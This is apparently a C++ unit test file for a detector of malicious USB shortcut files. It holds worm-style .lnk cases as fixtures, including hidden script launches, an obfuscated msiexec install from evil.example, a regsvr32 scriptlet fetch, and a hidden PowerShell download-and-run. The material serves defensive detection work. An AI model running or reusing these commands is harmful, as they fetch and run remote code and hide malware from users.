#include "engine/bait_shortcut.h"

#include <gtest/gtest.h>

#include <map>
#include <string>
#include <vector>

#include "config/text_rules.h"
#include "shell_link_images.h"

namespace tollivar {
namespace {

using test::LinkImage;
using test::PathItems;

constexpr std::uint32_t kHidden = 0x2;
constexpr std::uint32_t kSystem = 0x4;
constexpr std::uint32_t kFolder = 0x10;
constexpr std::uint32_t kFile = 0x20;

const char* const kNbsp = "\xc2\xa0";

// A stick's items by path, compared as the file system compares ASCII names.
class FakeStick {
  public:
    FakeStick(std::initializer_list<std::pair<std::string, std::uint32_t>> items) {
        for (const auto& [path, attributes] : items)
            items_[ToUpperAscii(path)] = attributes;
    }
    StickAttributes Query() {
        return [this](const std::string& path) -> std::optional<std::uint32_t> {
            asked.push_back(path);
            const auto it = items_.find(ToUpperAscii(path));
            if (it == items_.end()) return std::nullopt;
            return it->second;
        };
    }
    std::vector<std::string> asked;

  private:
    std::map<std::string, std::uint32_t> items_;
};

ShellLink Link(const LinkImage& image) {
    const ShellLinkReading reading = ParseShellLink(image.Build());
    EXPECT_TRUE(reading.Ok());
    return reading.link;
}

LinkImage Cmd(std::string arguments) {
    return LinkImage().Items(PathItems("C:\\Windows\\System32\\cmd.exe")).Arguments(std::move(arguments));
}

using Paths = std::vector<std::string>;

TEST(JudgeShortcut, WormPatterns) {
    const std::string blank = kNbsp;
    struct Case {
        const char* what;
        LinkImage image;
        std::string shortcut;
        FakeStick stick;
        Paths payloads;
        Paths opened;
        std::string mirrored;
        std::string reason;
    } cases[] = {
        {"cmd starts the script, then opens the blank-named folder",
         Cmd("/c start x.vbs & start explorer \"" + blank + "\" & exit"),
         "E:\\USB DISK.lnk",
         {{"E:\\x.vbs", kHidden | kSystem | kFile}, {"E:\\" + blank, kHidden | kSystem | kFolder}},
         {"E:\\x.vbs"},
         {"E:\\" + blank},
         "",
         "cmd runs E:\\x.vbs"},
        {"the blank name is unquoted and made of several no-break spaces",
         Cmd("/c start x.vbs&start explorer " + blank + blank + "&exit"),
         "E:\\Stick.lnk",
         {{"E:\\x.vbs", kHidden | kFile},
          {"E:\\" + blank + blank, kHidden | kFolder},
          {"E:\\" + blank, kFolder}},
         {"E:\\x.vbs"},
         {"E:\\" + blank + blank},
         "",
         "cmd runs E:\\x.vbs"},
        {"a folder named by spaces keeps them",
         Cmd("/c start x.js & start explorer \"   \" & exit"),
         "E:\\Stick.lnk",
         {{"E:\\x.js", kHidden | kFile}, {"E:\\   ", kHidden | kFolder}},
         {"E:\\x.js"},
         {"E:\\   "},
         "",
         "cmd runs E:\\x.js"},
        {"the whole command quoted after /c, with the mirrored folder",
         Cmd("/c \"start %cd%\\RECYCLER\\u.vbs & start explorer Photos & exit\""),
         "E:\\Photos.lnk",
         {{"E:\\RECYCLER\\u.vbs", kHidden | kFile}, {"E:\\Photos", kHidden | kSystem | kFolder}},
         {"E:\\RECYCLER\\u.vbs"},
         {"E:\\Photos"},
         "E:\\Photos",
         "cmd runs E:\\RECYCLER\\u.vbs; hides E:\\Photos"},
        {"wscript through the environment block, a script with a data extension",
         LinkImage().Environment("%windir%\\system32\\wscript.exe").Arguments("//e:vbscript x.dat"),
         "E:\\Photos.lnk",
         {{"E:\\x.dat", kHidden | kFile}},
         {"E:\\x.dat"},
         {},
         "",
         "wscript runs E:\\x.dat"},
        {"rundll32 with an entry, beside a hidden document it mirrors",
         LinkImage().LocalPath("C:\\Windows\\system32\\RUNDLL32.EXE").Arguments("~$WQ.FAT32,_ldr@16 desktop"),
         "E:\\Docs\\report.docx.lnk",
         {{"E:\\Docs\\~$WQ.FAT32", kHidden | kFile}, {"E:\\Docs\\report.docx", kHidden | kFile}},
         {"E:\\Docs\\~$WQ.FAT32"},
         {},
         "E:\\Docs\\report.docx",
         "rundll32 runs E:\\Docs\\~$WQ.FAT32; hides E:\\Docs\\report.docx"},
        {"cmd runs msiexec against a web address hidden behind carets",
         Cmd("/c \"m^s^i^e^x^e^c /q /i h^t^t^p://evil.example/p.msi\""),
         "E:\\Photos.lnk",
         {},
         {},
         {},
         "",
         "cmd runs http://evil.example/p.msi"},
        {"msiexec itself with an https address",
         LinkImage().LocalPath("msiexec.exe").Arguments("/q /i https://a.example/x"),
         "E:\\a.lnk",
         {},
         {},
         {},
         "",
         "msiexec runs https://a.example/x"},
        {"regsvr32 given a scriptlet address in its switch",
         LinkImage()
             .LocalPath("C:\\Windows\\System32\\regsvr32.exe")
             .Arguments("/s /n /u /i:http://a.example/s.sct scrobj.dll"),
         "E:\\a.lnk",
         {},
         {},
         {},
         "",
         "regsvr32 runs http://a.example/s.sct"},
        {"powershell downloads",
         LinkImage()
             .LocalPath("C:\\WINDOWS\\System32\\WindowsPowerShell\\v1.0\\powershell.exe")
             .Arguments("-w hidden -c \"iex (iwr 'https://a.example/p.ps1')\""),
         "E:\\a.lnk",
         {},
         {},
         {},
         "",
         "powershell runs https://a.example/p.ps1"},
        {"mshta's first argument is its page whatever the name",
         LinkImage().LocalPath("mshta").Arguments("\"E:\\sys\\doc.txt\""),
         "E:\\a.lnk",
         {{"E:\\sys\\doc.txt", kFile}},
         {"E:\\sys\\doc.txt"},
         {},
         "",
         "mshta runs E:\\sys\\doc.txt"},
        {"the target only in the ID list, the script beside the shortcut by %~dp0",
         Cmd("/c start %~dp0sys\\a.vbs & exit"),
         "E:\\Music\\Live.lnk",
         {{"E:\\Music\\sys\\a.vbs", kHidden | kFile}},
         {"E:\\Music\\sys\\a.vbs"},
         {},
         "",
         "cmd runs E:\\Music\\sys\\a.vbs"},
        {"relative names resolve against a working directory on the stick",
         Cmd("/c start x.vbs").WorkingDir("E:\\sys"),
         "E:\\a.lnk",
         {{"E:\\sys\\x.vbs", kHidden | kFile}, {"E:\\x.vbs", kHidden | kFile}},
         {"E:\\sys\\x.vbs"},
         {},
         "",
         "cmd runs E:\\sys\\x.vbs"},
        {"the drive letter of the stick in another case",
         Cmd("/c e:\\X.VBS"),
         "E:\\a.lnk",
         {{"E:\\x.vbs", kFile}},
         {"E:\\X.VBS"},
         {},
         "",
         "cmd runs E:\\X.VBS"},
        {"cmd starts a document after the script: the document is given back, not taken",
         Cmd("/c start x.vbs & start report.docx & exit"),
         "E:\\report.docx.lnk",
         {{"E:\\x.vbs", kHidden | kFile}, {"E:\\report.docx", kHidden | kSystem | kFile}},
         {"E:\\x.vbs"},
         {"E:\\report.docx"},
         "E:\\report.docx",
         "cmd runs E:\\x.vbs; hides E:\\report.docx"},
        {"the mirrored program is never the payload even with a program's extension",
         Cmd("/c start x.vbs & start setup.exe"),
         "E:\\setup.exe.lnk",
         {{"E:\\x.vbs", kHidden | kFile}, {"E:\\setup.exe", kHidden | kFile}},
         {"E:\\x.vbs"},
         {"E:\\setup.exe"},
         "E:\\setup.exe",
         "cmd runs E:\\x.vbs; hides E:\\setup.exe"},
        {"cmd only starts a file on the stick",
         Cmd("/c start notes.txt"),
         "E:\\a.lnk",
         {{"E:\\notes.txt", kFile}},
         {},
         {"E:\\notes.txt"},
         "",
         "cmd opens E:\\notes.txt"},
        {"Cyrillic, Chinese and emoji names",
         Cmd("/c start \xd0\xa4\xd0\xbe\xd1\x82\xd0\xbe.vbs & start explorer "
             "\"\xe7\x85\xa7\xe7\x89\x87\xf0\x9f\x98\x80\""),
         "E:\\\xe7\x85\xa7\xe7\x89\x87\xf0\x9f\x98\x80.lnk",
         {{"E:\\\xd0\xa4\xd0\xbe\xd1\x82\xd0\xbe.vbs", kHidden | kFile},
          {"E:\\\xe7\x85\xa7\xe7\x89\x87\xf0\x9f\x98\x80", kHidden | kFolder}},
         {"E:\\\xd0\xa4\xd0\xbe\xd1\x82\xd0\xbe.vbs"},
         {"E:\\\xe7\x85\xa7\xe7\x89\x87\xf0\x9f\x98\x80"},
         "E:\\\xe7\x85\xa7\xe7\x89\x87\xf0\x9f\x98\x80",
         "cmd runs E:\\\xd0\xa4\xd0\xbe\xd1\x82\xd0\xbe.vbs; hides "
         "E:\\\xe7\x85\xa7\xe7\x89\x87\xf0\x9f\x98\x80"},
        {"a hidden program on the stick as the target",
         LinkImage()
             .LocalPath("E:\\RECYCLER\\S-1-5-21\\svc.exe")
             .Items(PathItems("E:\\RECYCLER\\S-1-5-21\\svc.exe")),
         "E:\\Photos.lnk",
         {{"E:\\RECYCLER\\S-1-5-21\\svc.exe", kHidden | kSystem | kFile}, {"E:\\Photos", kHidden | kFolder}},
         {"E:\\RECYCLER\\S-1-5-21\\svc.exe"},
         {},
         "E:\\Photos",
         "runs hidden E:\\RECYCLER\\S-1-5-21\\svc.exe; hides E:\\Photos"},
        {"a hidden script reached by the relative path only",
         LinkImage().RelativePath(".\\sys\\run.js"),
         "E:\\Photos.lnk",
         {{"E:\\sys\\run.js", kHidden | kFile}},
         {"E:\\sys\\run.js"},
         {},
         "",
         "runs hidden E:\\sys\\run.js"},
        {"a benign link info hides an interpreter in the ID list",
         LinkImage()
             .LocalPath("C:\\Photos")
             .Items(PathItems("C:\\Windows\\System32\\wscript.exe"))
             .Arguments("x.js"),
         "E:\\Photos.lnk",
         {{"E:\\x.js", kHidden | kFile}},
         {"E:\\x.js"},
         {},
         "",
         "wscript runs E:\\x.js"},
    };
    for (Case& c : cases) {
        const BaitVerdict v = JudgeShortcut(Link(c.image), c.shortcut, "E:\\", c.stick.Query());
        EXPECT_TRUE(v.bait) << c.what;
        EXPECT_EQ(v.payloads, c.payloads) << c.what;
        EXPECT_EQ(v.openedItems, c.opened) << c.what;
        EXPECT_EQ(v.mirroredOriginal, c.mirrored) << c.what;
        EXPECT_EQ(v.reason, c.reason) << c.what;
    }
}

TEST(JudgeShortcut, OrdinaryShortcutsAreNotBait) {
    struct Case {
        const char* what;
        LinkImage image;
        std::string shortcut;
        FakeStick stick;
    } cases[] = {
        {"a program on the computer",
         LinkImage()
             .LocalPath("C:\\Program Files\\App\\app.exe")
             .Items(PathItems("C:\\Program Files\\App\\app.exe")),
         "E:\\App.lnk",
         {{"E:\\App", kHidden | kFolder}}},
        {"a document on the stick, hidden or not",
         LinkImage().LocalPath("E:\\Docs\\report.docx"),
         "E:\\report.lnk",
         {{"E:\\Docs\\report.docx", kHidden | kFile}}},
        {"a folder on the stick",
         LinkImage().LocalPath("E:\\Photos").Attributes(kFolder),
         "E:\\Photos.lnk",
         {{"E:\\Photos", kHidden | kFolder}}},
        {"a visible portable program on the stick",
         LinkImage().LocalPath("E:\\Tools\\app.exe").RelativePath(".\\Tools\\app.exe"),
         "E:\\app.lnk",
         {{"E:\\Tools\\app.exe", kFile}}},
        {"a hidden folder whose name looks like a program",
         LinkImage().LocalPath("E:\\x.exe"),
         "E:\\a.lnk",
         {{"E:\\x.exe", kHidden | kFolder}}},
        {"cmd with nothing of the stick", Cmd("/c ipconfig /all & pause"), "E:\\net.lnk", {}},
        {"cmd naming a file that is not there", Cmd("/c start x.vbs"), "E:\\a.lnk", {}},
        {"cmd naming a script on the computer",
         Cmd("/c C:\\Scripts\\backup.bat"),
         "E:\\a.lnk",
         {{"C:\\Scripts\\backup.bat", kFile}}},
        {"cmd naming a script on another drive", Cmd("/c F:\\x.vbs"), "E:\\a.lnk", {{"F:\\x.vbs", kFile}}},
        {"cmd opening a folder of the stick only",
         Cmd("/c start explorer Photos"),
         "E:\\a.lnk",
         {{"E:\\Photos", kHidden | kFolder}}},
        {"cmd naming the shortcut itself", Cmd("/c type a.lnk"), "E:\\a.lnk", {{"E:\\a.lnk", kFile}}},
        {"a script host with a working directory off the stick",
         LinkImage().LocalPath("wscript.exe").Arguments("x.vbs").WorkingDir("C:\\Scripts"),
         "E:\\a.lnk",
         {{"E:\\x.vbs", kHidden | kFile}}},
        {"a script host with a working directory of an unknown variable",
         LinkImage().LocalPath("wscript.exe").Arguments("x.vbs").WorkingDir("%USERPROFILE%"),
         "E:\\a.lnk",
         {{"E:\\x.vbs", kHidden | kFile}}},
        {"a web address in a program that is no interpreter",
         LinkImage().LocalPath("C:\\Program Files\\Browser\\browser.exe").Arguments("https://example.org"),
         "E:\\site.lnk",
         {}},
        {"a program named like an interpreter but longer",
         LinkImage().LocalPath("C:\\Tools\\cmdx.exe").Arguments("x.vbs"),
         "E:\\a.lnk",
         {{"E:\\x.vbs", kHidden | kFile}}},
    };
    for (Case& c : cases) {
        const BaitVerdict v = JudgeShortcut(Link(c.image), c.shortcut, "E:\\", c.stick.Query());
        EXPECT_FALSE(v.bait) << c.what << ": " << v.reason;
        EXPECT_TRUE(v.payloads.empty() && v.openedItems.empty() && v.mirroredOriginal.empty() &&
                    v.reason.empty())
            << c.what;
    }
}

// Names in the command that lead off the stick are never taken for items on it, even when the stick
// would answer for the path they spell.
TEST(JudgeShortcut, NamesThatLeaveTheStickAreNotAsked) {
    const char* const arguments[] = {
        "/c start \\\\?\\E:\\x.vbs",
        "/c start \\\\.\\E:\\x.vbs",
        "/c start \\\\server\\share\\x.vbs",
        "/c start x.vbs:hidden.vbs",
        "/c start *.vbs",
        "/c start %TEMP%\\x.vbs",
        "/c start http:\\x.vbs",
    };
    for (const char* args : arguments) {
        FakeStick stick{{"E:\\x.vbs", kHidden | kFile}};
        const BaitVerdict v = JudgeShortcut(Link(Cmd(args)), "E:\\a.lnk", "E:\\", stick.Query());
        EXPECT_FALSE(v.bait) << args;
        for (const std::string& path : stick.asked)
            EXPECT_NE(ToUpperAscii(path), "E:\\X.VBS") << args;
    }
}

TEST(JudgeShortcut, DotsNeverClimbAboveTheRoot) {
    FakeStick stick{{"E:\\x.vbs", kHidden | kFile}};
    const BaitVerdict v =
        JudgeShortcut(Link(Cmd("/c start ..\\..\\..\\x.vbs")), "E:\\a\\b.lnk", "E:\\", stick.Query());
    EXPECT_EQ(v.payloads, Paths{"E:\\x.vbs"});
}

TEST(JudgeShortcut, ALongCommandAsksTheStickABoundedNumberOfTimes) {
    std::string args = "/c";
    for (int i = 0; i < 5000; ++i)
        args += " n" + std::to_string(i);
    FakeStick stick{};
    JudgeShortcut(Link(Cmd(args)), "E:\\a.lnk", "E:\\", stick.Query());
    EXPECT_LE(stick.asked.size(), 300u);
}

TEST(JudgeShortcut, NoRootNoVerdict) {
    for (const char* root : {"", "E", "E:\\x\\", "\\\\server\\share\\", "1:\\"}) {
        FakeStick stick{{"E:\\x.vbs", kHidden | kFile}};
        EXPECT_FALSE(JudgeShortcut(Link(Cmd("/c start E:\\x.vbs")), "E:\\a.lnk", root, stick.Query()).bait)
            << root;
    }
}

TEST(LauncherName, InterpretersHostsAndLoadersByName) {
    struct Case {
        const char* target;
        const char* name;
    } cases[] = {
        {"C:\\Windows\\System32\\cmd.exe", "cmd"},
        {"%windir%\\system32\\WScript.EXE", "wscript"},
        {"cscript", "cscript"},
        {"\"C:\\Windows\\SysWOW64\\rundll32.exe\"", "rundll32"},
        {"regsvr32.exe", "regsvr32"},
        {"C:/Windows/System32/mshta.exe", "mshta"},
        {"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe", "powershell"},
        {"C:\\Program Files\\PowerShell\\7\\pwsh.exe", "pwsh"},
        {"MSIEXEC.EXE", "msiexec"},
        {"C:\\Windows\\System32\\cmd.exe.", "cmd"},
        {"C:\\Windows\\notepad.exe", ""},
        {"C:\\cmd.exe\\app.exe", ""},
        {"cmd.exe.exe", ""},
        {"xcmd.exe", ""},
        {"", ""},
    };
    for (const Case& c : cases)
        EXPECT_EQ(LauncherName(c.target), c.name) << c.target;
}

TEST(StickPath, ResolvesOnlyOntoTheDrive) {
    struct Case {
        const char* root;
        const char* base;
        const char* name;
        const char* path; // nullptr: not on the stick
    } cases[] = {
        {"E:\\", "", "E:\\x.vbs", "E:\\x.vbs"},
        {"E:", "", "e:\\a\\b.js", "E:\\a\\b.js"},
        {"E:\\", "E:\\sys", "x.vbs", "E:\\sys\\x.vbs"},
        {"E:\\", "E:\\sys", ".\\x.vbs", "E:\\sys\\x.vbs"},
        {"E:\\", "E:\\sys", "\\x.vbs", "E:\\x.vbs"},
        {"E:\\", "E:\\sys", "E:x.vbs", "E:\\sys\\x.vbs"},
        {"E:\\", "E:\\a\\b", "..\\..\\..\\x.vbs", "E:\\x.vbs"},
        {"E:\\", "", "E:/a//b/./c.js", "E:\\a\\b\\c.js"},
        {"E:\\", "", "E:\\\xc2\xa0\\x.vbs", "E:\\\xc2\xa0\\x.vbs"},
        {"E:\\", "", "E:\\   ", "E:\\   "},
        {"E:\\", "", "x.vbs", nullptr},     // no base to resolve against
        {"E:\\", "C:\\", "x.vbs", nullptr}, // a base off the stick
        {"E:\\", "", "F:\\x.vbs", nullptr},
        {"E:\\", "", "\\\\?\\E:\\x.vbs", nullptr},
        {"E:\\", "", "\\\\server\\share\\x.vbs", nullptr},
        {"E:\\", "", "//server/share/x.vbs", nullptr},
        {"E:\\", "", "http://e/x.vbs", nullptr},
        {"E:\\", "", "E:\\x.txt:s.vbs", nullptr},
        {"E:\\", "", "E:\\*.vbs", nullptr},
        {"E:\\", "", "E:\\a\x01.vbs", nullptr},
        {"E:\\", "", "", nullptr},
        {"E:\\x", "", "E:\\x.vbs", nullptr},
    };
    for (const Case& c : cases) {
        const auto path = StickPath(c.root, c.base, c.name);
        EXPECT_EQ(path.has_value(), c.path != nullptr) << c.name;
        if (path && c.path) {
            EXPECT_EQ(*path, c.path) << c.name;
        }
    }
}

} // namespace
} // namespace tollivar
